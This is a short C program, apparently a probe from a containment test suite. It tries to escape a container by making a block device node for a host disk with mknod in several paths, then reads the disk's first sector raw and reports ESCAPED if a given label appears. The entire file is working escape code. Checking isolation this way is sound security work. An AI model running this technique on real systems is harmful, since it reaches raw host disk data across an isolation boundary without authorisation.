/* MAJOR MINOR LABEL: makes a node for a disk of the host wherever one may work, and reads its label raw. [000] */
#include <sys/sysmacros.h>
#include "attack.h"

int main(int count, char **words)
{
    static const char *const places[] = { "/attack/disk", "/dev/disk0", "/tmp/disk", "/dev/shm/disk", "/run/disk" };
    char start[4096];
    if (count != 4)
        return BROKEN;
    for (size_t i = 0; i < sizeof places / sizeof *places; i++) {
        unlink(places[i]);
        if (mknod(places[i], S_IFBLK | 0600, makedev(atoi(words[1]), atoi(words[2]))) < 0)
            continue;
        int disk = open(places[i], O_RDONLY);
        if (disk >= 0 && read(disk, start, sizeof start) == sizeof start && memmem(start, sizeof start, words[3], strlen(words[3])))
            return ESCAPED;
    }
    return held("mknod and open");
}
